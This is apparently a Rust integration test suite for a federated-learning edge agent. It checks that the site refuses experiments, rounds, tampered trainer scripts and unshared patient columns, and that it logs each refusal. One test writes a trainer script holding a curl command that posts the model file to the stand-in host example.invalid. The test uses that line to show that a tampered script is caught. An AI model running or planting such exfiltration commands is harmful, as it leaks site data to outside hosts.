//! Site governance, end to end: a real `cohort serve` and an in-process edge agent whose
//! site allows only some experiments, or some rounds of each.
//!
//! What it protects, for each rule: the task is refused before anything is trained, the
//! coordinator is told why (the round's failures carry the site's reason), and the
//! site's own log (`site-log.jsonl`) records the refusal beside every task that ran,
//! with the bytes each upload sent.

mod common;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use cohort_edge::agent::{AgentConfig, AgentReport, run_agent};
use cohort_edge::governance::{SiteLog, SiteRules, TaskOutcome};
use cohort_edge::trainer::BuiltInTrainer;
use common::{Served, admin};
use reqwest::Method;

/// An experiment of `rounds` rounds for one client, started once the client is in.
async fn experiment(server: &Served, rounds: u32) -> String {
    experiment_reading(server, rounds, None).await
}

/// [`experiment`] reading the named feature columns, when given.
async fn experiment_reading(server: &Served, rounds: u32, columns: Option<&[&str]>) -> String {
    let mut spec = serde_json::json!({
        "name": "governed", "features": 4, "classes": 2, "model": "logreg",
        "rounds": rounds, "clients_per_round": 1, "min_participants": 1,
        "collect_deadline_seconds": 20, "max_round_attempts": 2
    });
    if let Some(columns) = columns {
        spec["columns"] = serde_json::json!(columns);
        spec["features"] = serde_json::json!(columns.len());
    }
    let exp = admin(
        &server.http,
        &server.base,
        Method::POST,
        "/experiments",
        Some(spec),
    )
    .await;
    exp["id"].as_str().unwrap().to_string()
}

/// Runs one agent under `rules` (state in `dir`) on experiment `id` until it idles out.
async fn run_site(server: &Served, dir: &Path, id: &str, rules: SiteRules) -> AgentReport {
    let trainer = Arc::new(BuiltInTrainer::new(common::blob_data(40, 0.0)));
    run_site_with(server, dir, id, rules, trainer).await
}

/// [`run_site`] with another trainer.
async fn run_site_with(
    server: &Served,
    dir: &Path,
    id: &str,
    rules: SiteRules,
    trainer: cohort_edge::trainer::SharedTrainer,
) -> AgentReport {
    let token = common::issue_token(&server.http, &server.base, "site").await;
    let config = AgentConfig {
        rules,
        ..common::agent_config(server, dir, token, trainer, 1, Duration::from_secs(4))
    };
    let agent = tokio::spawn(run_agent(config));
    common::wait_checked_in(&server.http, &server.base, 1, Duration::from_secs(30)).await;
    let path = format!("/experiments/{id}/start");
    admin(&server.http, &server.base, Method::POST, &path, None).await;
    tokio::time::timeout(Duration::from_secs(120), agent)
        .await
        .expect("the agent idles out")
        .unwrap()
        .expect("the agent runs without error")
}

/// Every failure reason the coordinator recorded for experiment `id`.
async fn failure_reasons(server: &Served, id: &str) -> Vec<String> {
    common::rounds(&server.http, &server.base, id)
        .await
        .iter()
        .flat_map(|r| r["failures"].as_array().cloned().unwrap_or_default())
        .map(|f| f["reason"].as_str().unwrap_or_default().to_string())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_experiment_the_site_does_not_allow_is_refused_reported_and_logged() {
    let dir = tempfile::tempdir().unwrap();
    let server = common::serve_in(dir.path()).await;
    let id = experiment(&server, 2).await;
    let rules = SiteRules {
        allowed_experiments: Some(vec![uuid::Uuid::from_u128(42)]),
        ..SiteRules::default()
    };
    let report = run_site(&server, &dir.path().join("site"), &id, rules).await;
    assert_eq!(report.uploads, 0, "{report:?}");
    assert!(report.refused >= 1, "{report:?}");
    let reasons = failure_reasons(&server, &id).await;
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("not allowed at this site")),
        "{reasons:?}"
    );
    let log = SiteLog::new(&dir.path().join("site")).entries().unwrap();
    assert!(!log.is_empty());
    for entry in &log {
        assert_eq!(entry.outcome, TaskOutcome::Refused, "{entry:?}");
        assert_eq!(entry.experiment.to_string(), id);
        assert!(
            entry
                .reason
                .as_deref()
                .unwrap()
                .contains("--allowed-experiments")
        );
        assert_eq!(entry.bytes_sent, 0);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn rounds_past_the_sites_limit_are_refused_reported_and_logged() {
    let dir = tempfile::tempdir().unwrap();
    let server = common::serve_in(dir.path()).await;
    let id = experiment(&server, 3).await;
    let rules = SiteRules {
        allowed_experiments: Some(vec![id.parse().unwrap()]),
        max_rounds: Some(1),
        approved_trainer: None,
        columns: None,
    };
    let report = run_site(&server, &dir.path().join("site"), &id, rules).await;
    assert_eq!(report.uploads, 1, "{report:?}");
    assert!(report.refused >= 1, "{report:?}");
    let reasons = failure_reasons(&server, &id).await;
    assert!(
        reasons.iter().any(|r| r.contains("at most 1 rounds")),
        "{reasons:?}"
    );
    let log = SiteLog::new(&dir.path().join("site")).entries().unwrap();
    assert_eq!(log[0].outcome, TaskOutcome::Uploaded, "{log:?}");
    assert_eq!(log[0].round, 1);
    // Ten parameters (4 x 2 weights and 2 biases) as 32-bit floats, at least.
    assert!(log[0].bytes_sent >= 40, "{log:?}");
    assert!(log.len() >= 2);
    for entry in &log[1..] {
        assert_eq!(entry.outcome, TaskOutcome::Refused, "{entry:?}");
        assert_eq!(entry.bytes_sent, 0);
    }
}

/// A file-model experiment of `rounds` rounds for one client (one 4 x 4 tensor).
async fn file_experiment(server: &Served, rounds: u32) -> String {
    use cohort_aggregation::{Layout, ModelVector, TensorSpec};
    let layout = Layout::new(vec![TensorSpec::new("w", [4, 4])]).unwrap();
    let initial = ModelVector::new(Arc::new(layout), vec![0.5; 16]).unwrap();
    let bytes = cohort_aggregation::model_file::encode(&initial, Default::default());
    let r = server
        .http
        .post(format!("{}/api/v1/admin/models?name=governed", server.base))
        .bearer_auth(common::ADMIN)
        .header("content-type", "application/octet-stream")
        .body(bytes)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let model = r.json::<serde_json::Value>().await.unwrap()["id"].clone();
    let spec = serde_json::json!({
        "name": "governed file", "model": "file", "initial_model": model,
        "rounds": rounds, "clients_per_round": 1, "min_participants": 1,
        "collect_deadline_seconds": 20, "max_round_attempts": 2
    });
    let exp = admin(
        &server.http,
        &server.base,
        Method::POST,
        "/experiments",
        Some(spec),
    )
    .await;
    exp["id"].as_str().unwrap().to_string()
}

/// A site's own trainer: a shell script that hands the model back unchanged.
fn script_trainer(dir: &Path) -> cohort_edge::trainer::external::ExternalTrainer {
    std::fs::create_dir_all(dir).unwrap();
    let script = dir.join("train.sh");
    std::fs::write(
        &script,
        "cp \"$COHORT_GLOBAL_MODEL\" \"$COHORT_UPDATE\"\n\
         echo '{\"num_examples\": 10}' > \"$COHORT_RESULT\"\n",
    )
    .unwrap();
    cohort_edge::trainer::external::ExternalTrainer::new(
        &format!("sh {}", script.display()),
        Duration::from_secs(30),
        &dir.join("work"),
    )
    .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn only_the_approved_trainer_runs_on_the_sites_data() {
    let dir = tempfile::tempdir().unwrap();
    let server = common::serve_in(dir.path()).await;

    // The script as approved: it trains.
    let trainer = script_trainer(&dir.path().join("code"));
    let hash = trainer.code_sha256().unwrap();
    assert_eq!(hash.len(), 64);
    let id = file_experiment(&server, 1).await;
    let rules = SiteRules {
        approved_trainer: Some(hash.clone()),
        ..SiteRules::default()
    };
    let site = dir.path().join("site");
    let report = run_site_with(&server, &site, &id, rules.clone(), Arc::new(trainer)).await;
    assert_eq!((report.uploads, report.refused), (1, 0), "{report:?}");

    // The script changed after it was approved: refused, reported and logged.
    std::fs::write(
        dir.path().join("code/train.sh"),
        "curl -d @\"$COHORT_GLOBAL_MODEL\" https://example.invalid\n",
    )
    .unwrap();
    let trainer = script_trainer_unchanged(&dir.path().join("code"));
    let id = file_experiment(&server, 1).await;
    let report = run_site_with(&server, &site, &id, rules, Arc::new(trainer)).await;
    assert_eq!(report.uploads, 0, "{report:?}");
    assert!(report.refused >= 1, "{report:?}");
    let reasons = failure_reasons(&server, &id).await;
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("not the one this site approved")),
        "{reasons:?}"
    );
    let log = SiteLog::new(&site).entries().unwrap();
    assert!(
        log.iter().any(|e| e.outcome == TaskOutcome::Refused
            && e.experiment.to_string() == id
            && e.reason.as_deref().unwrap().contains(&hash)),
        "{log:?}"
    );
}

/// The trainer of `dir/train.sh` as it is now (not rewritten).
fn script_trainer_unchanged(dir: &Path) -> cohort_edge::trainer::external::ExternalTrainer {
    cohort_edge::trainer::external::ExternalTrainer::new(
        &format!("sh {}", dir.join("train.sh").display()),
        Duration::from_secs(30),
        &dir.join("work"),
    )
    .unwrap()
}

/// A hospital's table: two shared measurements, a column it does not share (names, not
/// even numbers: reading it would fail), and the label.
fn hospital_csv(dir: &Path) -> std::path::PathBuf {
    let mut text = String::from("age,patient_name,bmi,label\n");
    for i in 0..40 {
        let sick = i % 2;
        let age = 30.0 + 20.0 * sick as f32 + (i % 7) as f32;
        let bmi = 22.0 + 6.0 * sick as f32 + (i % 5) as f32 * 0.5;
        text.push_str(&format!("{age},Patient {i},{bmi},{sick}\n"));
    }
    let path = dir.join("hospital.csv");
    std::fs::write(&path, text).unwrap();
    path
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_column_the_site_does_not_share_is_refused_reported_and_logged() {
    let dir = tempfile::tempdir().unwrap();
    let shared: std::collections::BTreeSet<String> =
        ["age", "bmi", "label"].map(String::from).into();
    // `--data` keeps only the shared columns: the names are never parsed (they would
    // not parse as numbers), and the data set holds no trace of them.
    let data = cohort_edge::data::load_csv_only(&hospital_csv(dir.path()), Some(&shared)).unwrap();
    assert_eq!(data.feature_names, ["age", "bmi"]);
    let rules = SiteRules {
        columns: Some(shared),
        ..SiteRules::default()
    };

    // An experiment that reads the shared columns (in its own order) runs.
    let server = common::serve_in(&dir.path().join("a")).await;
    let id = experiment_reading(&server, 2, Some(&["bmi", "age"])).await;
    let trainer = Arc::new(BuiltInTrainer::new(data.clone()));
    let site = dir.path().join("site-a");
    let report = run_site_with(&server, &site, &id, rules.clone(), trainer).await;
    assert_eq!(report.uploads, 2, "{report:?}");
    assert_eq!(report.refused, 0, "{report:?}");
    drop(server);

    // One that reads the names is refused before anything is read, the coordinator is
    // told which column, and the site's log says so.
    let server = common::serve_in(&dir.path().join("b")).await;
    let id = experiment_reading(&server, 2, Some(&["age", "patient_name"])).await;
    let trainer = Arc::new(BuiltInTrainer::new(data));
    let site = dir.path().join("site-b");
    let report = run_site_with(&server, &site, &id, rules, trainer).await;
    assert_eq!(report.uploads, 0, "{report:?}");
    assert!(report.refused >= 1, "{report:?}");
    let reasons = failure_reasons(&server, &id).await;
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("column `patient_name`") && r.contains("--columns")),
        "{reasons:?}"
    );
    let log = SiteLog::new(&site).entries().unwrap();
    assert!(!log.is_empty());
    for entry in &log {
        assert_eq!(entry.outcome, TaskOutcome::Refused, "{entry:?}");
        assert!(entry.reason.as_deref().unwrap().contains("`patient_name`"));
        assert_eq!(entry.bytes_sent, 0);
    }
}
